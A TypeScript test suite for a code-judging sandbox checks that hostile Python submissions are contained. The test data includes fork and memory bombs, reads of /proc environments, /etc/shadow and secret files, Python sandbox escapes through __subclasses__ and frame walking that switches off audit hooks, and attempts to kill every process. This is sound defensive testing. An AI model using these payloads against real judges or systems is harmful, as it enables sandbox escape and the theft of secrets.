// Hostile submissions. Each must end non-accepted, within its time bound, leaving nothing
// running, no file outside the sandbox, no connection to a listener we own and no secret in
// the report. Most are stopped by the static policy already, so each also runs with the
// policy bypassed (audit hooks on) and with the hooks off too: then only the OS boundary
// (bubblewrap's namespaces, its read-only file system, the seccomp filter, rlimits) stands
// between the code and the machine, and it is what is being proven. CI runs this file as root
// and as an ordinary user: the boundary must hold for both.
import { randomBytes } from 'node:crypto';
import { accessSync, constants, existsSync, mkdirSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createJudge, type Judge, type JudgeResultCache } from '../../api/src/modules/judge/judge.js';
import { NoExecutorError } from '../../api/src/modules/judge/sandbox-capabilities.js';
import { recentSandboxPids } from '../../api/src/modules/judge/sandbox-process.js';
import { mayShareReport } from '../../api/src/modules/judge/result-cache-policy.js';
import type { JudgeReport, TestReport, Verdict } from '../../api/src/modules/judge/types.js';
import { PYTHON_BIN, caps, makeProblem, test } from './helpers.js';

const SECRET = `sekret-${randomBytes(8).toString('hex')}`;
process.env.CODEMENTOR_FAKE_SECRET = SECRET;

const tag = randomBytes(4).toString('hex');
const outsidePaths = [path.join(process.cwd(), `pwned-${tag}`), path.join(os.tmpdir(), `pwned-${tag}`), `/var/tmp/pwned-${tag}`, `/dev/shm/pwned-${tag}`];

// Secrets where a server keeps them: a data directory in the project (DATA_DIR/jwt-secret),
// the home directory, and a world-readable file in the host's /tmp.
// (An ordinary user running this file in a checkout it may not write to uses the host's /tmp.)
const dataDir = path.join(writable(process.cwd()) ? process.cwd() : os.tmpdir(), `.hostile-data-${tag}`);
const secretFiles = [
  path.join(dataDir, 'jwt-secret'),
  path.join(os.homedir(), `.codementor-hostile-${tag}`),
  path.join(os.tmpdir(), `codementor-hostile-${tag}`),
];
const readableSecrets = JSON.stringify([...secretFiles, '/etc/passwd', '/etc/shadow', path.join(process.cwd(), 'package.json')]);
/** Python lines (in a function, indented 4) that append every secret file's text, or the error, to `found`. */
const READ_SECRETS_INTO_FOUND = `    for p in ${readableSecrets}:
        try:
            with open(p) as f:
                found.append(f.read())
        except Exception as e:
            found.append(type(e).__name__)
`;
/** A line of /etc/passwd and a dependency named only in package.json: neither may show. */
const HOST_FILE_MARKERS = ['root:x:0:0', 'tree-sitter-python'];

const problem = makeProblem({
  slug: 'hostile',
  entryPoint: 'solve',
  timeLimitMs: 1000,
  tests: [test('t1', [[1, 2]], 3), test('t2', [[5]], 5, true)],
});

let port = 0;
let connections = 0;
let listener: net.Server;

interface HostileCase {
  name: string;
  code: () => string;
  /** Verdicts allowed with only the OS limits in place (the run itself must stop the code). */
  bypassed: Verdict[];
  /** Verdicts allowed with the audit hooks on as well (they may stop it earlier). Default: bypassed. */
  hooked?: Verdict[];
  /** Extra checks on the report of a bypassed run. */
  check?: (report: JudgeReport) => void;
  boundMs?: number;
}

const cases: HostileCase[] = [
  {
    name: 'fork bomb',
    code: () => 'import os\ndef solve(nums):\n    while True:\n        os.fork()\n',
    bypassed: ['runtime_error'],
  },
  {
    name: 'background process that outlives the run',
    code: () => 'import subprocess, os\ndef solve(nums):\n    subprocess.Popen(["sleep", "313"], start_new_session=True)\n    return sum(nums)\n',
    bypassed: ['runtime_error'],
  },
  {
    name: 'memory bomb',
    code: () => 'def solve(nums):\n    hog = bytearray(2 * 1024 ** 3)\n    return sum(nums)\n',
    bypassed: ['memory_limit_exceeded'],
  },
  {
    name: '200 MB written straight to fd 1',
    code: () => 'import os\ndef solve(nums):\n    chunk = b"x" * 1000000\n    for _ in range(200):\n        os.write(1, chunk)\n    return sum(nums)\n',
    bypassed: ['output_limit_exceeded'],
  },
  {
    name: '200 MB printed',
    code: () => 'def solve(nums):\n    chunk = "x" * 1000000\n    for _ in range(200):\n        print(chunk)\n    return sum(nums)\n',
    bypassed: ['output_limit_exceeded'],
  },
  {
    name: 'infinite loop',
    code: () => 'def solve(nums):\n    while True:\n        pass\n',
    bypassed: ['time_limit_exceeded'],
  },
  {
    name: 'reading environment variables and /proc',
    code: () => `import os
def solve(nums):
    found = [repr(dict(os.environ))]
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for name in ("environ", "cmdline"):
                try:
                    with open("/proc/%s/%s" % (pid, name), "rb") as f:
                        found.append(f.read().decode("latin-1"))
                except Exception as e:
                    found.append(type(e).__name__)
    return found
`,
    bypassed: ['wrong_answer', 'runtime_error'],
  },
  {
    name: 'writing files outside the temporary directory',
    code: () => `def solve(nums):
    done = []
    for p in ${JSON.stringify(outsidePaths)}:
        try:
            with open(p, "w") as f:
                f.write("pwned")
            done.append("wrote " + p)
        except Exception as e:
            done.append(type(e).__name__)
    return done
`,
    bypassed: ['wrong_answer', 'runtime_error'],
  },
  {
    name: 'a socket to a listener the test owns',
    code: () => `import socket
def solve(nums):
    s = socket.create_connection(("127.0.0.1", ${port}), timeout=3)
    s.sendall(b"leak")
    return sum(nums)
`,
    bypassed: ['runtime_error'],
  },
  {
    name: 'signal tricks: ignoring the CPU signals, disarming the timer, killing the parent',
    code: () => `import os, signal
def solve(nums):
    signal.signal(signal.SIGPROF, signal.SIG_IGN)
    signal.signal(signal.SIGXCPU, signal.SIG_IGN)
    signal.setitimer(signal.ITIMER_PROF, 0)
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except Exception:
        pass
    while True:
        pass
`,
    bypassed: ['time_limit_exceeded'],
    hooked: ['runtime_error'], // importing signal is refused at run time
    boundMs: 20_000,
  },
  {
    name: 'os._exit(0) before reporting',
    code: () => 'import os\ndef solve(nums):\n    os._exit(0)\n',
    bypassed: ['runtime_error'],
    check: (r) => expect(r.tests[0].error?.type).toBe('Crash'),
  },
  {
    name: 'patched equality',
    code: () => 'class Always(list):\n    def __eq__(self, other):\n        return True\n    __hash__ = None\ndef solve(nums):\n    return Always([3])\n',
    bypassed: ['wrong_answer'],
    check: (r) => expect(r.tests[0].error?.type).toBe('NotPlainData'),
  },
  {
    name: 'fake result lines on stdout and on the result channel',
    code: () => `import os, sys
FAKE = '{"t":"result","id":"t1","plain":true,"value":3,"ms":0.1,"out":""}'
def solve(nums):
    print(FAKE)
    print("0" * 32 + " " + FAKE)
    sys.__stdout__.write(FAKE + "\\n")
    for fd in (1, 3):
        try:
            os.write(fd, (FAKE + "\\n" + '{"t":"done"}' + "\\n").encode())
        except OSError:
            pass
    return -1
`,
    bypassed: ['wrong_answer'],
  },
  {
    name: 'monkeypatched json',
    code: () => `import json
json.dumps = lambda *a, **k: "3"
json.JSONEncoder.encode = lambda self, o: "3"
def solve(nums):
    return -1
`,
    bypassed: ['wrong_answer'],
  },
  {
    name: 'private module attributes reach os (from random import _os) and read secrets',
    code: () => `from random import _os as o
def solve(nums):
    found = [repr(dict(o.environ))]
${READ_SECRETS_INTO_FOUND}    return found
`,
    bypassed: ['wrong_answer'],
    hooked: ['wrong_answer', 'runtime_error'],
  },
  {
    name: 'sys.modules through a from-import and dataclasses.sys: listing the host',
    code: () => `from sys import modules
import dataclasses
def solve(nums):
    o = dataclasses.sys.modules["os"] if "os" in dataclasses.sys.modules else modules["posix"]
    seen = {}
    for d in ("/", "/home", "/root", "/etc", "/proc", ${JSON.stringify(process.cwd())}, ${JSON.stringify(os.homedir())}):
        try:
            seen[d] = sorted(o.listdir(d))
        except Exception as e:
            seen[d] = type(e).__name__
    return seen
`,
    bypassed: ['wrong_answer'],
    hooked: ['wrong_answer', 'runtime_error'],
    check: (r) => {
      if (r.verdict !== 'wrong_answer') return; // the hooks stopped it first
      const seen = r.tests[0].actual as Record<string, string[] | string>;
      // Only what bwrap builds: no /home, /etc, /root or project; /proc holds init and itself.
      expect(seen['/']).toEqual(expect.not.arrayContaining(['home', 'etc', 'root', 'work', 'var', 'srv']));
      expect(seen['/home']).toBe('FileNotFoundError');
      expect(seen['/etc']).toEqual(expect.not.arrayContaining(['passwd', 'shadow', 'hostname']));
      expect((seen['/proc'] as string[]).filter((e) => /^\d+$/.test(e))).toEqual(['1']);
      expect(seen[process.cwd()]).toBe('FileNotFoundError');
    },
  },
  {
    name: 'string-built dunder names (__subcl + asses__) reach os through a subclass',
    code: () => `def solve(nums):
    subclasses = getattr(object, "__subcl" + "asses__")()
    wrap = [c for c in subclasses if c.__name__ == "_wrap_close"][0]
    g = getattr(wrap.__init__, "__glo" + "bals__")
    found = [repr(g["environ"])]
    for p in ${readableSecrets}:
        try:
            fd = g["open"](p, g["O_RDONLY"])
            found.append(g["read"](fd, 100000).decode("latin-1"))
        except Exception as e:
            found.append(type(e).__name__)
    return found
`,
    bypassed: ['wrong_answer'],
    hooked: ['wrong_answer', 'runtime_error'],
  },
  {
    name: 'os.path.realpath replaced so the file hook believes every path is inside the sandbox',
    code: () => `from random import _os as o
def solve(nums):
    o.path.realpath = lambda p, **kw: "/tmp/harmless"
    with open("/etc/passwd") as f:
        return f.read()
`,
    bypassed: ['runtime_error'],
  },
  {
    name: 'frames walked up to the harness switch the audit hook off, then every escape is tried',
    code: () => `import sys
def solve(nums):
    frame = getattr(sys, "_get" + "frame")(0)
    while frame is not None:
        for value in list(frame.f_locals.values()):
            guard = getattr(value, "guard", None)
            if isinstance(guard, list):
                guard[0] = False
        frame = frame.f_back
    found = []
    g = {}
    exec("import socket, signal, os", g)
    try:
        s = g["socket"].create_connection(("127.0.0.1", ${port}), timeout=2)
        s.sendall(b"leak")
        found.append("connected")
    except Exception as e:
        found.append(type(e).__name__)
    for pid in range(1, 400):
        try:
            g["os"].kill(pid, g["signal"].SIGKILL)
        except Exception:
            pass
${READ_SECRETS_INTO_FOUND}    return found
`,
    bypassed: ['wrong_answer'],
    hooked: ['wrong_answer', 'runtime_error'],
  },
  {
    name: 'signals to every process it can name (kill -1, every pid, process groups)',
    code: () => `import os, signal
def solve(nums):
    sent = 0
    for sig in (signal.SIGTERM, signal.SIGKILL):
        for target in (-1, 0):
            try:
                os.kill(target, sig) if target == -1 else None
            except Exception:
                pass
        for pid in range(1, 5000):
            if pid == os.getpid():
                continue
            try:
                os.kill(pid, sig)
                sent += 1
            except Exception:
                pass
            try:
                os.killpg(pid, sig)
            except Exception:
                pass
    return -1 - sent
`,
    // Only itself can be named (the sandbox's pid 1), and as init it ignores signals from
    // inside with no handler: the run goes on and returns a wrong answer.
    bypassed: ['wrong_answer', 'runtime_error'],
  },
  {
    name: 'a raw socket, a UNIX socket and a new namespace',
    code: () => `import os, socket
def solve(nums):
    out = []
    for make in (lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM),
                 lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM),
                 lambda: socket.socketpair(),
                 lambda: os.unshare(os.CLONE_NEWUSER) if hasattr(os, "unshare") else 1 / 0):
        try:
            make()
            out.append("made")
        except Exception as e:
            out.append(type(e).__name__)
    return out
`,
    bypassed: ['wrong_answer'],
    hooked: ['wrong_answer', 'runtime_error'],
    check: (r) =>
      r.verdict === 'wrong_answer' &&
      expect(r.tests[0].actual).toEqual(['PermissionError', 'PermissionError', 'PermissionError', expect.stringMatching(/PermissionError|ZeroDivisionError/)]),
  },
  {
    name: 'filling the private /tmp past its size',
    code: () => `def solve(nums):
    chunk = "x" * 1000000
    for i in range(64):
        with open("/tmp/fill-%d" % i, "w") as f:
            for _ in range(7):
                f.write(chunk)
    return sum(nums)
`,
    bypassed: ['runtime_error'],
  },
];

function assertContained(report: JudgeReport, started: number, bound: number): void {
  expect(report.verdict).not.toBe('accepted');
  expect(Date.now() - started).toBeLessThan(bound);
  const text = JSON.stringify(report);
  expect(text).not.toContain(SECRET);
  for (const marker of HOST_FILE_MARKERS) expect(text).not.toContain(marker);
  for (const p of outsidePaths) expect(existsSync(p), `${p} must not exist`).toBe(false);
  expect(connections).toBe(0);
}

function assertNothingRunning(): void {
  for (const pid of recentSandboxPids()) {
    expect(() => process.kill(-pid, 0), `process group ${pid} must be gone`).toThrow();
  }
}

beforeAll(async () => {
  listener = net.createServer((socket) => {
    connections++;
    socket.destroy();
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  port = (listener.address() as net.AddressInfo).port;
  mkdirSync(dataDir, { recursive: true });
  for (const file of secretFiles) writeFileSync(file, SECRET, { mode: 0o644 });
});

afterAll(async () => {
  await new Promise<void>((resolve) => listener.close(() => resolve()));
  for (const p of [...outsidePaths, ...secretFiles]) rmSync(p, { force: true });
  rmSync(dataDir, { recursive: true, force: true });
});

describe('hostile code through the full judge (policy on)', () => {
  const judge = createJudge({ pythonBin: PYTHON_BIN, poolSize: 0, hiddenPaths: [dataDir] });
  afterAll(() => judge.close());

  it.each(cases)(
    'does not accept: $name',
    async ({ code, boundMs }) => {
      const started = Date.now();
      const report = await judge.judge({ problem, code: code(), scope: 'all' });
      assertContained(report, started, boundMs ?? 15_000);
    },
    60_000,
  );
});

describe.each([
  { layer: 'audit hooks and OS limits', disableAuditHooks: false },
  { layer: 'OS limits alone', disableAuditHooks: true },
])('hostile code with the policy bypassed: $layer', ({ disableAuditHooks }) => {
  let judge: Judge;
  beforeAll(() => {
    judge = createJudge({ pythonBin: PYTHON_BIN, poolSize: 0, hiddenPaths: [dataDir], unsafeSkipPolicy: true, unsafeDisableAuditHooks: disableAuditHooks });
  });
  afterAll(async () => {
    await judge.close();
    assertNothingRunning();
    expect(sleepersAlive()).toBe(0);
  });

  it.each(cases)(
    'contains: $name',
    async ({ code, bypassed, hooked, check, boundMs }) => {
      const started = Date.now();
      const report = await judge.judge({ problem, code: code(), scope: 'all' });
      assertContained(report, started, boundMs ?? 15_000);
      expect(disableAuditHooks ? bypassed : (hooked ?? bypassed)).toContain(report.verdict);
      check?.(report);
      assertNothingRunning();
    },
    60_000,
  );
});

function writable(dir: string): boolean {
  try {
    accessSync(dir, constants.W_OK);
    return true;
  } catch {
    return false;
  }
}

function sleepersAlive(): number {
  let count = 0;
  for (const pid of readdirSync('/proc').filter((p: string) => /^\d+$/.test(p))) {
    try {
      if (readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes('sleep\u0000313')) count++;
    } catch {
      /* gone meanwhile */
    }
  }
  return count;
}

describe('the sandbox', () => {
  it('shows learner code only its own read-only world: no project, no home, its own /proc, /tmp to write', async () => {
    const judge = createJudge({ pythonBin: PYTHON_BIN, poolSize: 0, hiddenPaths: [dataDir], unsafeSkipPolicy: true, unsafeDisableAuditHooks: true });
    const project = JSON.stringify(process.cwd());
    const code = `import os, socket
def solve(nums):
    with open("/tmp/mine", "w") as f:
        f.write("ok")
    writable = []
    for d in ("/", "/usr/lib", "/judge", "/dev", "/proc"):
        try:
            open(d + "/x", "w").close()
            writable.append(d)
        except OSError:
            pass
    pids = sorted(p for p in os.listdir("/proc") if p.isdigit())
    return [os.path.exists(${project}), os.getcwd(), os.getuid(), socket.gethostname(), pids, writable, dict(os.environ)]
`;
    const report = await judge.judge({ problem, code, scope: 'public' });
    const [projectVisible, cwd, uid, hostname, pids, writable, environ] = report.tests[0].actual as unknown[];
    expect(projectVisible).toBe(false);
    expect(cwd).toBe('/tmp');
    expect(uid).toBe(65534);
    expect(hostname).toBe('sandbox');
    expect(pids).toEqual(['1']); // itself, as the namespace's init
    expect(writable).toEqual([]);
    // Nothing of the server's environment: only what Python and bwrap set themselves.
    expect(Object.keys(environ as object).filter((k) => !['PWD', 'LC_CTYPE'].includes(k))).toEqual([]);
    await judge.close();
  }, 60_000);

  it('refuses to start without its boundary unless the operator says so, and /ready-style names it', async () => {
    expect(caps.boundary).toMatchObject({ kind: 'bubblewrap', seccomp: true });
    expect(() => createJudge({ pythonBin: PYTHON_BIN, poolSize: 0, bwrapBin: '/nonexistent/bwrap' })).toThrow(NoExecutorError);
    const unsafe = createJudge({ pythonBin: PYTHON_BIN, poolSize: 0, bwrapBin: '/nonexistent/bwrap', allowUnsandboxed: true });
    expect(unsafe.executor.boundary).toMatch(/^none/);
    const report = await unsafe.judge({ problem, code: 'def solve(nums):\n    return sum(nums)\n', scope: 'public' });
    expect(report.verdict).toBe('accepted');
    await unsafe.close();
    const safe = createJudge({ pythonBin: PYTHON_BIN, poolSize: 0 });
    expect(safe.executor.boundary).toBe('bubblewrap+seccomp');
    await safe.close();
  }, 60_000);
});

/** A result cache that remembers everything it was given. */
function recordingCache(): JudgeResultCache & { stored: Map<string, JudgeReport> } {
  const stored = new Map<string, JudgeReport>();
  return {
    stored,
    get: async (key) => (stored.has(key) ? JSON.stringify(stored.get(key)) : null),
    set: async (key, value) => void stored.set(key, JSON.parse(value) as JudgeReport),
  };
}

describe('two learners at once', () => {
  const slow = makeProblem({
    slug: 'victim',
    entryPoint: 'solve',
    timeLimitMs: 5000,
    tests: [test('v1', [[1, 2, 3]], 6), test('v2', [[4]], 4, true), test('v3', [[10, 20]], 30, true)],
  });
  // Correct, and busy long enough (about 0.3 s a test) for the attacker to find it if it could.
  const victimCode = 'def solve(nums):\n    x = 0\n    for i in range(3_000_000):\n        x ^= i\n    return sum(nums)\n';
  const attackerCode = `import os, signal, time
def solve(nums):
    end = time.monotonic() + 3
    while time.monotonic() < end:
        for sig in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
            try:
                os.kill(-1, sig)
            except Exception:
                pass
        for entry in os.listdir("/proc"):
            if entry.isdigit() and int(entry) != os.getpid():
                for sig in (signal.SIGTERM, signal.SIGKILL):
                    try:
                        os.kill(int(entry), sig)
                    except Exception:
                        pass
    return 0
`;

  it("an attacker's sandbox cannot reach the victim's: the victim's verdict is right and cached once", async () => {
    const cache = recordingCache();
    const judge = createJudge({ pythonBin: PYTHON_BIN, poolSize: 0, concurrency: 2, cache, unsafeSkipPolicy: true, unsafeDisableAuditHooks: true });
    const attack = judge.judge({ problem: slow, code: attackerCode, scope: 'all' });
    await new Promise((resolve) => setTimeout(resolve, 300)); // the attacker is already at work
    const victim = await judge.judge({ problem: slow, code: victimCode, scope: 'all' });
    expect(victim.verdict).toBe('accepted');
    expect(victim.passed).toBe(3);
    expect((await attack).verdict).toBe('wrong_answer');
    const verdicts = [...cache.stored.values()].map((r) => r.verdict).sort();
    expect(verdicts).toEqual(['accepted', 'wrong_answer']);
    await judge.close();
  }, 60_000);

  it('never caches a verdict produced by a signal from outside the code', async () => {
    const cache = recordingCache();
    const judge = createJudge({ pythonBin: PYTHON_BIN, poolSize: 0, concurrency: 1, cache });
    const running = judge.judge({ problem: slow, code: victimCode, scope: 'all' });
    // What only the host can do now (another sandbox cannot name the process): kill it mid-run.
    const interpreter = await waitForInterpreter();
    process.kill(interpreter, 'SIGKILL');
    const report = await running;
    expect(report.verdict).not.toBe('accepted');
    expect(cache.stored.size).toBe(0);
    // The same code, judged again undisturbed, is accepted (nothing poisoned) and only that is kept.
    const again = await judge.judge({ problem: slow, code: victimCode, scope: 'all' });
    expect(again).toMatchObject({ verdict: 'accepted', cached: false });
    expect([...cache.stored.values()].map((r) => r.verdict)).toEqual(['accepted']);
    await judge.close();
  }, 60_000);

  it('shares only outcomes the code alone decides', () => {
    const report = (status: TestReport['status'], type?: string): JudgeReport =>
      ({ tests: [{ status, error: type ? { type, message: '', line: null } : null }] }) as unknown as JudgeReport;
    expect(mayShareReport(report('passed'))).toBe(true);
    expect(mayShareReport(report('failed'))).toBe(true);
    expect(mayShareReport(report('error', 'IndexError'))).toBe(true);
    expect(mayShareReport(report('error', 'MemoryError'))).toBe(true);
    expect(mayShareReport(report('error', 'Crash'))).toBe(false); // ended by a signal or without reporting
    expect(mayShareReport(report('timeout', 'TimeLimitExceeded'))).toBe(false);
    expect(mayShareReport(report('skipped'))).toBe(false);
  });
});

/** The host pid of the newest sandbox's interpreter (bwrap's child), once it runs its test (10 s at most). */
async function waitForInterpreter(): Promise<number> {
  for (let i = 0; i < 2000; i++) {
    const sandbox = recentSandboxPids().at(-1);
    const interpreter = sandbox ? descendants(sandbox).find((pid) => cmdline(pid).includes('sandbox_setup.py')) : undefined;
    // In its first test once it has used more CPU than starting up takes (~30 ms): wall time
    // says nothing about that on a busy machine.
    if (interpreter && cpuTicks(interpreter) >= 6) return interpreter;
    await new Promise((resolve) => setTimeout(resolve, 5));
  }
  throw new Error('no sandboxed interpreter appeared');
}

/** CPU time a process has used, in clock ticks (1/100 s). */
function cpuTicks(pid: number): number {
  try {
    const stat = readFileSync(`/proc/${pid}/stat`, 'utf8');
    const fields = stat.slice(stat.lastIndexOf(') ') + 2).split(' ');
    return Number(fields[11]) + Number(fields[12]);
  } catch {
    return 0;
  }
}

function cmdline(pid: number): string {
  try {
    return readFileSync(`/proc/${pid}/cmdline`, 'utf8');
  } catch {
    return '';
  }
}

function descendants(root: number): number[] {
  const found: number[] = [];
  const parents = new Map<number, number>();
  for (const entry of readdirSync('/proc').filter((p) => /^\d+$/.test(p))) {
    try {
      const stat = readFileSync(`/proc/${entry}/stat`, 'utf8');
      parents.set(Number(entry), Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]));
    } catch {
      /* gone */
    }
  }
  const queue = [root];
  while (queue.length) {
    const parent = queue.shift()!;
    for (const [pid, ppid] of parents) {
      if (ppid !== parent) continue;
      found.push(pid);
      queue.push(pid);
    }
  }
  return found;
}
